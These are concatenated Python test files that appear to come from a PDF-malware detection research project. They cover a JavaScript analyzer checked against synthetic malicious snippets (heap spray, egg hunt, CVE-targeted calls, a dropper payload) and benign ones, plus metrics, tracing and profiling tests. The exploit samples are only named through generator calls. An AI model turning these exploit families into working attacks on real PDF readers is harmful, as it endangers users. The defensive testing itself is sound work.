        builder.add_javascript("Collab.getIcon(q);")
        analysis = analyze_document(doc_from_builder(builder))
        clone = DocumentJSAnalysis.from_dict(analysis.to_dict())
        assert clone.suspicious == analysis.suspicious
        assert clone.triage_eligible == analysis.triage_eligible
        assert clone.guards == analysis.guards
