"""Acceptance criteria over the synthetic corpus:

* every malicious snippet family produces at least one finding at or
  above the triage severity;
* the benign corpus produces *zero* findings at or above the triage
  severity (INFO-level advisories are allowed);
* every malicious *document* is triage-ineligible, so the fast path
  can never skip emulating one.
"""

import random

import pytest

from repro.corpus import CorpusConfig, build_dataset, js_snippets as js
from repro.jsast import TRIAGE_SEVERITY, analyze_script
from repro.jsast.analyzer import analyze_document
from repro.pdf.document import PDFDocument
from repro.reader.payload import Payload

CVES = [
    "CVE-2007-5659",
    "CVE-2008-2992",
    "CVE-2009-0927",
    "CVE-2009-4324",
    "CVE-2010-4091",
    "CVE-2009-1492",
]


def malicious_snippets():
    rng = random.Random(11)
    payload = Payload.dropper("evil.exe")
    cases = {
        "spray": js.spray_script(160, payload, rng=rng),
        "spray-title-hidden": js.spray_script(
            160, payload, rng=rng, hide_payload_in_title=True
        ),
        "export-launch": js.export_launch_script(),
        "probe-hostcontainer": js.failing_probe_script("CVE-2009-1492"),
        "probe-xfahost": js.failing_probe_script("CVE-2013-0640"),
        "version-gated": js.version_gated(
            js.egg_hunt_script(160, payload, rng, "CVE-2009-4324"), 9
        ),
        "two-stage-head": js.spray_script(
            160, payload, rng=rng, export_chunk_as="__st2"
        ),
    }
    for cve in CVES:
        cases[f"egg-hunt-{cve}"] = js.egg_hunt_script(160, payload, rng, cve)
        cases[f"stage2-{cve}"] = js.exploit_call_for(cve).replace(
            "__CHUNK__", "__st2"
        )
    return cases


def benign_snippets():
    rng = random.Random(12)
    return {
        "form": js.benign_form_script(rng),
        "date": js.benign_date_script(rng),
        "page": js.benign_page_script(),
        "report-small": js.benign_report_script(16, 1024, rng),
        "report-large": js.benign_report_script(660, 3072, rng),
        "soap": js.benign_soap_script(),
        "multi-0": js.benign_multiscript_part(0),
        "multi-1": js.benign_multiscript_part(1),
    }


class TestSnippetCoverage:
    @pytest.mark.parametrize("family", sorted(malicious_snippets()))
    def test_every_malicious_family_flagged(self, family):
        report = analyze_script(malicious_snippets()[family], label=family)
        assert report.suspicious, (
            f"{family}: no finding at/above triage severity "
            f"(fired: {report.rules_fired()})"
        )

    @pytest.mark.parametrize("family", sorted(benign_snippets()))
    def test_benign_snippets_never_suspicious(self, family):
        report = analyze_script(benign_snippets()[family], label=family)
        loud = [
            f for f in report.findings if f.severity >= TRIAGE_SEVERITY
        ]
        assert loud == [], f"{family}: false positives {loud}"

    def test_soap_is_clean_but_ineligible(self):
        # F9 fires at runtime for the SOAP doc; triage must never skip
        # it even though it carries zero suspicious findings.
        report = analyze_script(js.benign_soap_script())
        assert not report.suspicious
        assert not report.triage_eligible
        assert report.side_effect_apis


@pytest.mark.slow
class TestDocumentCoverage:
    @pytest.fixture(scope="class")
    def dataset(self):
        return build_dataset(
            CorpusConfig(
                n_benign=24,
                n_benign_with_js=8,
                n_malicious=32,
                benign_seed=1963,
                malicious_seed=2014,
            )
        )

    def test_benign_documents_have_no_suspicious_findings(self, dataset):
        for sample in dataset.benign:
            document = PDFDocument.from_bytes(sample.data)
            analysis = analyze_document(document)
            assert not analysis.suspicious, (
                f"{sample.name}: {analysis.rules_fired()}"
            )

    def test_malicious_documents_never_triage_eligible(self, dataset):
        for sample in dataset.malicious:
            document = PDFDocument.from_bytes(sample.data)
            analysis = analyze_document(document)
            assert not analysis.triage_eligible, sample.name
