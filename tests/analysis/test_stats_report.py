"""Unit tests for the analysis/reporting helpers."""


from repro.analysis import PaperComparison, cdf, format_table, render_ascii_cdf, summarize
from repro.analysis.stats import fraction_at_least, fraction_below


class TestStats:
    def test_summary_values(self):
        summary = summarize([1.0, 2.0, 3.0, 4.0])
        assert summary.count == 4
        assert summary.mean == 2.5
        assert summary.minimum == 1.0
        assert summary.maximum == 4.0
        assert summary.median == 2.5

    def test_summary_empty(self):
        assert summarize([]).count == 0

    def test_cdf_shape(self):
        xs, fracs = cdf([3.0, 1.0, 2.0])
        assert list(xs) == [1.0, 2.0, 3.0]
        assert list(fracs) == [1 / 3, 2 / 3, 1.0]

    def test_fraction_helpers(self):
        values = [0.1, 0.2, 0.3, 0.4]
        assert fraction_below(values, 0.25) == 0.5
        assert fraction_at_least(values, 0.2) == 0.75
        assert fraction_below([], 1.0) == 0.0

    def test_summary_row_renders(self):
        text = summarize([5.0]).row("label", " MB")
        assert "label" in text and "MB" in text


class TestReport:
    def test_paper_comparison_renders_rows(self):
        comparison = PaperComparison("Table X")
        comparison.add("metric", 1, 2)
        comparison.add("other", "a", "b")
        text = comparison.render()
        assert "Table X" in text
        assert "metric" in text and "paper" in text and "measured" in text

    def test_format_table_aligns(self):
        text = format_table(["col", "long header"], [["x", 1], ["yy", 22]])
        lines = text.splitlines()
        assert len(lines) == 4
        assert lines[0].startswith("col")

    def test_ascii_cdf_contains_markers_and_legend(self):
        plot = render_ascii_cdf(
            [("benign", [0.1, 0.15, 0.2]), ("malicious", [0.5, 0.8, 1.0])],
            width=30,
            height=6,
        )
        assert "*" in plot and "o" in plot
        assert "benign" in plot and "malicious" in plot

    def test_ascii_cdf_empty(self):
        assert render_ascii_cdf([]) == "(no data)"

    def test_ascii_cdf_constant_values(self):
        plot = render_ascii_cdf([("x", [1.0, 1.0])], width=10, height=4)
        assert "x" in plot
