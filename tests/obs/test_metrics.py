"""Counter/gauge/histogram aggregation in repro.obs.metrics."""

import pytest

from repro.obs import MemorySink, Metrics
from repro.obs.metrics import Histogram


class TestCounters:
    def test_inc_accumulates(self):
        metrics = Metrics()
        metrics.inc("docs_scanned")
        metrics.inc("docs_scanned")
        metrics.inc("docs_scanned", 3)
        assert metrics.counter_value("docs_scanned") == 5

    def test_labels_create_distinct_series(self):
        metrics = Metrics()
        metrics.inc("syscalls", context="in_js")
        metrics.inc("syscalls", context="in_js")
        metrics.inc("syscalls", context="out_js")
        assert metrics.counter_value("syscalls", context="in_js") == 2
        assert metrics.counter_value("syscalls", context="out_js") == 1
        assert metrics.counter_value("syscalls") == 0  # unlabelled is its own series

    def test_label_order_is_irrelevant(self):
        metrics = Metrics()
        metrics.inc("x", a=1, b=2)
        metrics.inc("x", b=2, a=1)
        assert metrics.counter_value("x", b=2, a=1) == 2


class TestGauges:
    def test_set_overwrites(self):
        metrics = Metrics()
        metrics.set_gauge("resident_mb", 18.0)
        metrics.set_gauge("resident_mb", 19.5)
        assert metrics.gauge_value("resident_mb") == 19.5

    def test_missing_gauge_is_none(self):
        assert Metrics().gauge_value("nope") is None


class TestHistograms:
    def test_bucket_assignment(self):
        histogram = Histogram(bounds=(1, 5, 10))
        for value in (0.5, 1.0, 3, 10, 99):
            histogram.observe(value)
        # <=1: 0.5 and 1.0; <=5: 3; <=10: 10; overflow: 99.
        assert histogram.bucket_counts == [2, 1, 1]
        assert histogram.overflow == 1
        assert histogram.count == 5
        assert histogram.min == 0.5
        assert histogram.max == 99
        assert histogram.mean == pytest.approx((0.5 + 1 + 3 + 10 + 99) / 5)

    def test_observe_via_registry(self):
        metrics = Metrics()
        for score in (0, 12, 28):
            metrics.observe("malscore", score, buckets=(1, 10, 50))
        histogram = metrics.histogram("malscore")
        assert histogram.count == 3
        assert histogram.bucket_counts == [1, 0, 2]

    def test_empty_bounds_rejected(self):
        with pytest.raises(ValueError):
            Histogram(bounds=())


class TestSnapshotAndFlush:
    def test_snapshot_keys(self):
        metrics = Metrics()
        metrics.inc("verdicts", malicious=True)
        metrics.set_gauge("g", 1)
        metrics.observe("h", 0.5)
        snap = metrics.snapshot()
        assert snap["counters"] == {"verdicts{malicious=True}": 1}
        assert snap["gauges"] == {"g": 1}
        assert snap["histograms"]["h"]["count"] == 1

    def test_flush_emits_one_record_per_series(self):
        sink = MemorySink()
        metrics = Metrics(sink)
        metrics.inc("a")
        metrics.inc("a", context="x")
        metrics.set_gauge("b", 2)
        metrics.observe("c", 1.0)
        metrics.flush()
        assert len(sink.metrics) == 4
        kinds = sorted(record["kind"] for record in sink.metrics)
        assert kinds == ["counter", "counter", "gauge", "histogram"]
        assert all(record["type"] == "metric" for record in sink.metrics)

    def test_render_mentions_each_series(self):
        metrics = Metrics()
        metrics.inc("docs_scanned")
        metrics.observe("malscore", 28, buckets=(10, 50))
        text = metrics.render()
        assert "docs_scanned" in text
        assert "malscore" in text
        assert "count=1" in text

    def test_render_empty(self):
        assert "no metrics" in Metrics().render()
