"""Counter/gauge/histogram aggregation in repro.obs.metrics."""

import re
import threading

import pytest

from repro.obs import MemorySink, Metrics
from repro.obs.metrics import DEFAULT_BUCKETS, Histogram


class TestCounters:
    def test_inc_accumulates(self):
        metrics = Metrics()
        metrics.inc("docs_scanned")
        metrics.inc("docs_scanned")
        metrics.inc("docs_scanned", 3)
        assert metrics.counter_value("docs_scanned") == 5

    def test_labels_create_distinct_series(self):
        metrics = Metrics()
        metrics.inc("syscalls", context="in_js")
        metrics.inc("syscalls", context="in_js")
        metrics.inc("syscalls", context="out_js")
        assert metrics.counter_value("syscalls", context="in_js") == 2
        assert metrics.counter_value("syscalls", context="out_js") == 1
        assert metrics.counter_value("syscalls") == 0  # unlabelled is its own series

    def test_label_order_is_irrelevant(self):
        metrics = Metrics()
        metrics.inc("x", a=1, b=2)
        metrics.inc("x", b=2, a=1)
        assert metrics.counter_value("x", b=2, a=1) == 2


class TestGauges:
    def test_set_overwrites(self):
        metrics = Metrics()
        metrics.set_gauge("resident_mb", 18.0)
        metrics.set_gauge("resident_mb", 19.5)
        assert metrics.gauge_value("resident_mb") == 19.5

    def test_missing_gauge_is_none(self):
        assert Metrics().gauge_value("nope") is None


class TestHistograms:
    def test_bucket_assignment(self):
        histogram = Histogram(bounds=(1, 5, 10))
        for value in (0.5, 1.0, 3, 10, 99):
            histogram.observe(value)
        # <=1: 0.5 and 1.0; <=5: 3; <=10: 10; overflow: 99.
        assert histogram.bucket_counts == [2, 1, 1]
        assert histogram.overflow == 1
        assert histogram.count == 5
        assert histogram.min == 0.5
        assert histogram.max == 99
        assert histogram.mean == pytest.approx((0.5 + 1 + 3 + 10 + 99) / 5)

    def test_observe_via_registry(self):
        metrics = Metrics()
        for score in (0, 12, 28):
            metrics.observe("malscore", score, buckets=(1, 10, 50))
        histogram = metrics.histogram("malscore")
        assert histogram.count == 3
        assert histogram.bucket_counts == [1, 0, 2]

    def test_empty_bounds_rejected(self):
        with pytest.raises(ValueError):
            Histogram(bounds=())


class TestQuantile:
    def test_empty_is_zero(self):
        assert Histogram(DEFAULT_BUCKETS).quantile(0.5) == 0.0

    def test_q_bounds_validated(self):
        histogram = Histogram(DEFAULT_BUCKETS)
        with pytest.raises(ValueError):
            histogram.quantile(-0.1)
        with pytest.raises(ValueError):
            histogram.quantile(1.1)

    def test_extremes_are_min_and_max(self):
        histogram = Histogram(bounds=(1.0, 10.0))
        for value in (0.2, 3.0, 7.0, 42.0):
            histogram.observe(value)
        assert histogram.quantile(0.0) == 0.2
        assert histogram.quantile(1.0) == 42.0

    def test_median_lands_in_the_right_bucket(self):
        histogram = Histogram(bounds=(1.0, 2.0, 4.0, 8.0))
        for value in (0.5, 1.5, 1.6, 3.0, 6.0):
            histogram.observe(value)
        median = histogram.quantile(0.5)
        assert 1.0 <= median <= 2.0  # 3rd of 5 ranks in the (1, 2] bucket

    def test_result_clamped_to_observed_range(self):
        histogram = Histogram(bounds=(100.0,))
        for value in (0.01, 0.02, 0.03):
            histogram.observe(value)
        for q in (0.25, 0.5, 0.95, 0.99):
            assert 0.01 <= histogram.quantile(q) <= 0.03

    def test_overflow_bucket_interpolates_toward_max(self):
        histogram = Histogram(bounds=(1.0,))
        for value in (0.5, 10.0, 20.0, 30.0):
            histogram.observe(value)
        p99 = histogram.quantile(0.99)
        assert 1.0 < p99 <= 30.0

    def test_uniform_data_accuracy(self):
        histogram = Histogram(DEFAULT_BUCKETS)
        for index in range(1, 1001):
            histogram.observe(index / 1000.0)  # uniform on (0, 1]
        assert histogram.quantile(0.5) == pytest.approx(0.5, abs=0.1)
        assert histogram.quantile(0.95) == pytest.approx(0.95, abs=0.1)


class TestSnapshotAndFlush:
    def test_snapshot_keys(self):
        metrics = Metrics()
        metrics.inc("verdicts", malicious=True)
        metrics.set_gauge("g", 1)
        metrics.observe("h", 0.5)
        snap = metrics.snapshot()
        assert snap["counters"] == {"verdicts{malicious=True}": 1}
        assert snap["gauges"] == {"g": 1}
        assert snap["histograms"]["h"]["count"] == 1

    def test_flush_emits_one_record_per_series(self):
        sink = MemorySink()
        metrics = Metrics(sink)
        metrics.inc("a")
        metrics.inc("a", context="x")
        metrics.set_gauge("b", 2)
        metrics.observe("c", 1.0)
        metrics.flush()
        assert len(sink.metrics) == 4
        kinds = sorted(record["kind"] for record in sink.metrics)
        assert kinds == ["counter", "counter", "gauge", "histogram"]
        assert all(record["type"] == "metric" for record in sink.metrics)

    def test_render_mentions_each_series(self):
        metrics = Metrics()
        metrics.inc("docs_scanned")
        metrics.observe("malscore", 28, buckets=(10, 50))
        text = metrics.render()
        assert "docs_scanned" in text
        assert "malscore" in text
        assert "count=1" in text

    def test_render_empty(self):
        assert "no metrics" in Metrics().render()


class TestThreadSafety:
    def test_concurrent_inc_observe_snapshot(self):
        metrics = Metrics()
        rounds = 500
        workers = 8
        errors = []

        def hammer(worker):
            try:
                for index in range(rounds):
                    metrics.inc("requests", context=f"w{worker % 2}")
                    metrics.observe("latency", index / 1000.0)
                    metrics.set_gauge("depth", index)
                    if index % 50 == 0:
                        metrics.snapshot()
                        metrics.render()
            except Exception as error:  # pragma: no cover
                errors.append(error)

        threads = [
            threading.Thread(target=hammer, args=(w,)) for w in range(workers)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert not errors
        total = metrics.counter_value("requests", context="w0") + (
            metrics.counter_value("requests", context="w1")
        )
        assert total == workers * rounds  # no lost increments
        histogram = metrics.histogram("latency")
        assert histogram.count == workers * rounds
        assert histogram.count >= sum(histogram.bucket_counts)


def _parse_prometheus(text):
    """Minimal 0.0.4 exposition parser: (types, samples) or raises."""
    types = {}
    samples = []
    sample_re = re.compile(
        r'^([a-zA-Z_:][a-zA-Z0-9_:]*)'
        r'(\{([a-zA-Z_][a-zA-Z0-9_]*="(?:[^"\\]|\\.)*",?)*\})?'
        r" (NaN|[+-]?Inf|[0-9eE.+-]+)$"
    )
    for line in text.splitlines():
        if not line:
            continue
        if line.startswith("# TYPE "):
            _, _, name, kind = line.split(" ", 3)
            assert kind in ("counter", "gauge", "histogram"), line
            assert name not in types, f"duplicate TYPE for {name}"
            types[name] = kind
            continue
        assert not line.startswith("#"), line
        match = sample_re.match(line)
        assert match, f"unparseable sample line: {line!r}"
        samples.append((match.group(1), line))
    return types, samples


class TestPrometheusExposition:
    def test_counter_and_gauge_samples(self):
        metrics = Metrics()
        metrics.inc("docs_scanned", 3)
        metrics.inc("verdicts", malicious=True)
        metrics.set_gauge("queue_depth", 4)
        text = metrics.render_prometheus()
        types, samples = _parse_prometheus(text)
        assert types["repro_docs_scanned"] == "counter"
        assert types["repro_queue_depth"] == "gauge"
        assert "repro_docs_scanned 3" in text
        assert 'repro_verdicts{malicious="True"} 1' in text

    def test_histogram_grammar(self):
        metrics = Metrics()
        for value in (0.002, 0.02, 0.2, 2.0, 200.0):
            metrics.observe("scan_seconds", value, buckets=(0.01, 0.1, 1.0))
        text = metrics.render_prometheus()
        types, samples = _parse_prometheus(text)
        assert types["repro_scan_seconds"] == "histogram"
        names = [name for name, _ in samples]
        assert "repro_scan_seconds_bucket" in names
        assert "repro_scan_seconds_sum" in names
        assert "repro_scan_seconds_count" in names
        # Cumulative buckets, monotone, closed by +Inf == _count.
        buckets = [
            line for name, line in samples
            if name == "repro_scan_seconds_bucket"
        ]
        counts = [int(line.rsplit(" ", 1)[1]) for line in buckets]
        assert counts == sorted(counts)
        assert 'le="+Inf"' in buckets[-1]
        assert counts[-1] == 5
        (count_line,) = [
            line for name, line in samples
            if name == "repro_scan_seconds_count"
        ]
        assert count_line.endswith(" 5")

    def test_name_and_label_sanitisation(self):
        metrics = Metrics()
        metrics.inc("scan-time.total", **{"doc": 'we"ird\nname\\x'})
        text = metrics.render_prometheus()
        types, samples = _parse_prometheus(text)
        assert "repro_scan_time_total" in types

    def test_empty_registry_renders_empty(self):
        assert Metrics().render_prometheus() == ""
