"""End-to-end: a pipeline scan emits the expected span tree + events."""

import pytest

from repro import obs
from repro.core.pipeline import ProtectionPipeline
from repro.obs import MemorySink, Observability


@pytest.fixture()
def traced_scan(malicious_doc_bytes):
    """One malicious scan captured in memory: (sink, report)."""
    observability = Observability(MemorySink())
    pipeline = ProtectionPipeline(seed=77, obs=observability)
    report = pipeline.scan(malicious_doc_bytes, "mal.pdf")
    observability.flush()
    return observability.sink, report


class TestSpanTree:
    def test_expected_spans_present(self, traced_scan):
        sink, report = traced_scan
        assert report.verdict.malicious
        names = {s["name"] for s in sink.spans}
        assert {
            "pipeline.scan",
            "pipeline.protect",
            "instrument.document",
            "instrument.parse",
            "instrument.features",
            "instrument.rewrite",
            "session.open",
            "reader.open",
            "session.verdict",
        } <= names

    def test_parentage(self, traced_scan):
        sink, _report = traced_scan
        by_name = {s["name"]: s for s in sink.spans}

        def parent_of(name):
            parent_id = by_name[name]["parent_id"]
            (parent,) = [s for s in sink.spans if s["span_id"] == parent_id]
            return parent["name"]

        assert parent_of("pipeline.protect") == "pipeline.scan"
        assert parent_of("instrument.document") == "pipeline.protect"
        assert parent_of("instrument.parse") == "instrument.document"
        assert parent_of("session.open") == "pipeline.scan"
        assert parent_of("reader.open") == "session.open"
        assert parent_of("session.verdict") == "session.open"
        assert by_name["pipeline.scan"]["parent_id"] is None

    def test_session_tags(self, traced_scan):
        sink, _report = traced_scan
        (session_span,) = sink.spans_named("session.open")
        assert session_span["tags"]["malicious"] is True
        assert session_span["tags"]["virtual_s"] >= 0.0
        (reader_span,) = sink.spans_named("reader.open")
        assert reader_span["tags"]["document"] == "mal.pdf"


class TestEvents:
    def test_in_js_syscalls_tagged(self, traced_scan):
        sink, _report = traced_scan
        syscalls = sink.events_named("syscall")
        assert syscalls, "hooked syscalls must emit events"
        contexts = {e["tags"]["context"] for e in syscalls}
        assert "in_js" in contexts  # the dropper runs inside JS context
        assert all(e["tags"]["api"] for e in syscalls)

    def test_feature_fired_events(self, traced_scan):
        sink, report = traced_scan
        fired = {e["tags"]["feature"] for e in sink.events_named("feature_fired")}
        expected = {f"F{n}" for n in report.verdict.features.fired()}
        assert fired == expected

    def test_context_enter_leave(self, traced_scan):
        sink, _report = traced_scan
        assert sink.events_named("context.enter")
        assert sink.events_named("context.leave")

    def test_confinement_events_match_report(self, traced_scan):
        sink, report = traced_scan
        actions = [e["tags"]["action"] for e in sink.events_named("confinement")]
        reported = [a for alert in report.alerts for a in alert.confinement_actions]
        assert sorted(actions) == sorted(reported)
        assert actions  # the dropper triggers quarantine + termination


class TestMetrics:
    def test_scan_counters(self, traced_scan):
        sink, _report = traced_scan
        by_key = {m["key"]: m["value"] for m in sink.metrics if m["kind"] == "counter"}
        assert by_key["docs_scanned"] == 1
        assert by_key["docs_protected"] == 1
        assert by_key["verdicts{malicious=True}"] == 1
        assert by_key["js_chains_found"] >= 1

    def test_malscore_histogram(self, traced_scan):
        sink, report = traced_scan
        (histogram,) = [m for m in sink.metrics if m["kind"] == "histogram"]
        assert histogram["name"] == "malscore"
        assert histogram["count"] == 1
        assert histogram["max"] == report.verdict.malscore


class TestDisabledDefault:
    def test_scan_without_obs_emits_nothing(self, malicious_doc_bytes):
        pipeline = ProtectionPipeline(seed=78)
        assert pipeline.obs.enabled is False
        report = pipeline.scan(malicious_doc_bytes, "quiet.pdf")
        assert report.verdict.malicious  # detection unaffected

    def test_configure_sets_process_default(self, js_doc_bytes):
        previous = obs.get_default()
        try:
            bundle = obs.configure(MemorySink())
            pipeline = ProtectionPipeline(seed=79)
            assert pipeline.obs is bundle
            pipeline.scan(js_doc_bytes, "benign.pdf")
            assert bundle.sink.spans_named("pipeline.scan")
        finally:
            obs.set_default(previous)
