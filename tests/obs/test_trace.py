"""Span nesting, timing and emission semantics of repro.obs.trace."""

import pytest

from repro.obs import MemorySink, NullSink, Tracer


def fake_clock(values):
    """A deterministic clock yielding successive values."""
    iterator = iter(values)
    return lambda: next(iterator)


class TestSpanNesting:
    def test_parent_child_ids(self):
        sink = MemorySink()
        tracer = Tracer(sink)
        with tracer.span("outer") as outer:
            with tracer.span("inner") as inner:
                pass
        assert inner.parent_id == outer.span_id
        assert outer.parent_id is None

    def test_siblings_share_parent(self):
        sink = MemorySink()
        tracer = Tracer(sink)
        with tracer.span("root") as root:
            with tracer.span("a") as a:
                pass
            with tracer.span("b") as b:
                pass
        assert a.parent_id == root.span_id
        assert b.parent_id == root.span_id
        assert a.span_id != b.span_id

    def test_children_emitted_before_parent(self):
        sink = MemorySink()
        tracer = Tracer(sink)
        with tracer.span("outer"):
            with tracer.span("inner"):
                pass
        assert [s["name"] for s in sink.spans] == ["inner", "outer"]

    def test_current_span_tracks_stack(self):
        tracer = Tracer(MemorySink())
        assert tracer.current_span is None
        with tracer.span("x") as sp:
            assert tracer.current_span is sp
        assert tracer.current_span is None


class TestSpanTiming:
    def test_duration_from_clock(self):
        tracer = Tracer(MemorySink(), clock=fake_clock([10.0, 12.5]))
        with tracer.span("timed") as sp:
            pass
        assert sp.duration == pytest.approx(2.5)

    def test_duration_zero_while_open(self):
        tracer = Tracer(MemorySink())
        with tracer.span("open") as sp:
            assert sp.duration == 0.0
        assert sp.duration > 0.0

    def test_nested_durations_nest(self):
        # outer: 0 -> 10; inner: 2 -> 5.
        tracer = Tracer(MemorySink(), clock=fake_clock([0.0, 2.0, 5.0, 10.0]))
        with tracer.span("outer") as outer:
            with tracer.span("inner") as inner:
                pass
        assert inner.duration == pytest.approx(3.0)
        assert outer.duration == pytest.approx(10.0)
        assert inner.duration < outer.duration

    def test_spans_timed_even_when_disabled(self):
        """PhaseTimings are derived from span durations, so timing must
        work with the NullSink installed."""
        tracer = Tracer(NullSink())
        with tracer.span("still-timed") as sp:
            pass
        assert sp.end is not None
        assert sp.duration >= 0.0


class TestTagsAndErrors:
    def test_tags_via_kwargs_and_set_tag(self):
        sink = MemorySink()
        tracer = Tracer(sink)
        with tracer.span("tagged", document="a.pdf") as sp:
            sp.set_tag("scripts", 3)
        record = sink.spans[0]
        assert record["tags"] == {"document": "a.pdf", "scripts": 3}

    def test_exception_tags_error_and_reraises(self):
        sink = MemorySink()
        tracer = Tracer(sink)
        with pytest.raises(ValueError):
            with tracer.span("boom"):
                raise ValueError("no")
        assert sink.spans[0]["tags"]["error"] == "ValueError"
        assert tracer.current_span is None  # stack unwound


class TestEvents:
    def test_event_attached_to_current_span(self):
        sink = MemorySink()
        tracer = Tracer(sink)
        with tracer.span("work") as sp:
            tracer.event("tick", n=1)
        assert sink.events[0]["span_id"] == sp.span_id
        assert sink.events[0]["tags"] == {"n": 1}

    def test_event_without_span(self):
        sink = MemorySink()
        tracer = Tracer(sink)
        tracer.event("orphan")
        assert sink.events[0]["span_id"] is None

    def test_event_noop_when_disabled(self):
        tracer = Tracer(NullSink())
        tracer.event("never")  # must not raise, must not record
        assert tracer.sink.enabled is False


class TestAggregateSlowest:
    @staticmethod
    def _span(name, span_id, parent_id, start, end, **tags):
        return {
            "type": "span",
            "name": name,
            "span_id": span_id,
            "parent_id": parent_id,
            "start": start,
            "end": end,
            "duration": end - start,
            "tags": tags,
        }

    def test_ranks_scans_with_child_breakdown(self):
        from repro.obs.report import aggregate_slowest

        spans = [
            self._span("pipeline.scan", 1, None, 0.0, 2.0, document="slow.pdf"),
            self._span("session.open", 2, 1, 0.1, 1.9),
            self._span("pipeline.scan", 3, None, 5.0, 5.5, document="fast.pdf"),
            self._span("session.open", 4, 3, 5.1, 5.4),
        ]
        rows = aggregate_slowest(spans)
        assert [row[1] for row in rows] == ["slow.pdf", "fast.pdf"]
        assert "session.open 1.8000s" in rows[0][3]
        assert "session.open 0.3000s" in rows[1][3]

    def test_aliased_span_ids_scoped_by_time_window(self):
        """Concatenated traces (or process workers) reuse span ids; the
        breakdown must only claim children inside the root's window."""
        from repro.obs.report import aggregate_slowest

        spans = [
            # Trace A: scan #1 with a 1.0s child, both ids 1/2.
            self._span("pipeline.scan", 1, None, 0.0, 1.2, document="a.pdf"),
            self._span("session.open", 2, 1, 0.1, 1.1),
            # Trace B: a different process reused ids 1/2.
            self._span("pipeline.scan", 1, None, 10.0, 10.3, document="b.pdf"),
            self._span("session.open", 2, 1, 10.1, 10.2),
        ]
        rows = aggregate_slowest(spans)
        by_doc = {row[1]: row[3] for row in rows}
        assert "session.open 1.0000s" in by_doc["a.pdf"]
        assert "session.open 0.1000s" in by_doc["b.pdf"]
