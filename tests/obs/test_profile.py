"""Scan-phase profiler + JS hotspot attribution (repro.obs.profile)."""

import json

import pytest

from repro.core.pipeline import ProtectionPipeline
from repro.obs import profile as profile_mod
from repro.obs.profile import PHASES, JSProfile, ScanProfile, SlowScanBuffer


class FakeClock:
    def __init__(self):
        self.now = 0.0

    def __call__(self):
        return self.now

    def advance(self, seconds):
        self.now += seconds


# -- ScanProfile -----------------------------------------------------------


class TestScanProfile:
    def test_phase_stack_attribution(self):
        clock = FakeClock()
        profile = ScanProfile(clock=clock).start()
        clock.advance(1.0)  # "other" before any phase
        profile.push("parse")
        clock.advance(2.0)
        profile.pop()
        clock.advance(0.5)  # back to "other"
        profile.finish()
        assert profile.phase_self_seconds["parse"] == pytest.approx(2.0)
        assert profile.phase_self_seconds["other"] == pytest.approx(1.5)
        assert profile.total_seconds == pytest.approx(3.5)

    def test_nested_phases_accrue_self_time(self):
        clock = FakeClock()
        profile = ScanProfile(clock=clock).start()
        with profile.phase("parse"):
            clock.advance(1.0)
            with profile.phase("decompress"):
                clock.advance(3.0)
            clock.advance(1.0)
        profile.finish()
        # Each phase keeps its *self* time, not inclusive time.
        assert profile.phase_self_seconds["parse"] == pytest.approx(2.0)
        assert profile.phase_self_seconds["decompress"] == pytest.approx(3.0)

    def test_phases_sum_exactly_to_total(self):
        clock = FakeClock()
        profile = ScanProfile(clock=clock).start()
        for name in ("parse", "jsast", "js-exec"):
            with profile.phase(name):
                clock.advance(0.7)
            clock.advance(0.1)
        profile.finish()
        assert sum(profile.phase_self_seconds.values()) == pytest.approx(
            profile.total_seconds
        )

    def test_phase_seconds_zero_fills_canonical_phases(self):
        profile = ScanProfile(clock=FakeClock()).start()
        profile.finish()
        phases = profile.phase_seconds()
        assert set(PHASES) <= set(phases)
        assert all(value >= 0.0 for value in phases.values())

    def test_counters(self):
        profile = ScanProfile(clock=FakeClock())
        profile.count("js_steps", 10)
        profile.count("js_steps", 5)
        profile.count("scripts_executed")
        assert profile.counters == {"js_steps": 15, "scripts_executed": 1}

    def test_to_dict_is_json_serialisable(self):
        clock = FakeClock()
        profile = ScanProfile(clock=clock).start()
        with profile.phase("parse"):
            clock.advance(1.0)
        profile.count("decompressed_bytes", 42)
        profile.finish()
        payload = json.loads(json.dumps(profile.to_dict()))
        assert payload["total_seconds"] == pytest.approx(1.0)
        assert payload["phases"]["parse"] == pytest.approx(1.0)
        assert payload["counters"] == {"decompressed_bytes": 42}
        assert "hotspots" in payload["js"]


class TestAmbientScope:
    def test_inactive_by_default(self):
        assert profile_mod.current() is None
        with profile_mod.phase("parse") as active:
            assert active is None  # no-op, no crash
        profile_mod.count("x")  # no-op

    def test_activate_scopes_the_profile(self):
        profile = ScanProfile(clock=FakeClock()).start()
        with profile_mod.activate(profile):
            assert profile_mod.current() is profile
            profile_mod.count("hits")
        assert profile_mod.current() is None
        assert profile.counters == {"hits": 1}

    def test_module_phase_marks_active_profile(self):
        clock = FakeClock()
        profile = ScanProfile(clock=clock).start()
        with profile_mod.activate(profile):
            with profile_mod.phase("monitor"):
                clock.advance(2.0)
        profile.finish()
        assert profile.phase_self_seconds["monitor"] == pytest.approx(2.0)


# -- JSProfile -------------------------------------------------------------


class TestJSProfile:
    def test_dispatch_self_time_excludes_children(self):
        clock = FakeClock()
        profile = JSProfile(clock=clock)

        def leaf(node, env, this):
            clock.advance(1.0)

        def parent(node, env, this):
            clock.advance(0.5)
            profile.dispatch("Leaf", leaf, None, None, None)
            clock.advance(0.5)

        profile.dispatch("Parent", parent, None, None, None)
        assert profile.node_self_seconds["Parent"] == pytest.approx(1.0)
        assert profile.node_self_seconds["Leaf"] == pytest.approx(1.0)
        assert profile.node_hits == {"Parent": 1, "Leaf": 1}

    def test_hotspots_ranked_by_self_time(self):
        clock = FakeClock()
        profile = JSProfile(clock=clock)

        def make(seconds):
            def method(node, env, this):
                clock.advance(seconds)

            return method

        profile.dispatch("Cheap", make(0.1), None, None, None)
        profile.dispatch("Costly", make(5.0), None, None, None)
        profile.dispatch("Middling", make(1.0), None, None, None)
        ranked = [row["node"] for row in profile.hotspots(2)]
        assert ranked == ["Costly", "Middling"]

    def test_call_sites_and_collapsed_lines(self):
        clock = FakeClock()
        profile = JSProfile(clock=clock)
        start = profile.enter_call("outer")
        clock.advance(1.0)
        inner = profile.enter_call("inner")
        clock.advance(2.0)
        profile.exit_call("inner", inner)
        profile.exit_call("outer", start)

        sites = {row["function"]: row for row in profile.call_sites()}
        assert sites["outer"]["seconds"] == pytest.approx(3.0)
        assert sites["outer"]["self_seconds"] == pytest.approx(1.0)
        assert sites["inner"]["self_seconds"] == pytest.approx(2.0)

        lines = profile.collapsed_lines()
        assert "(root);outer 1000000" in lines
        assert "(root);outer;inner 2000000" in lines

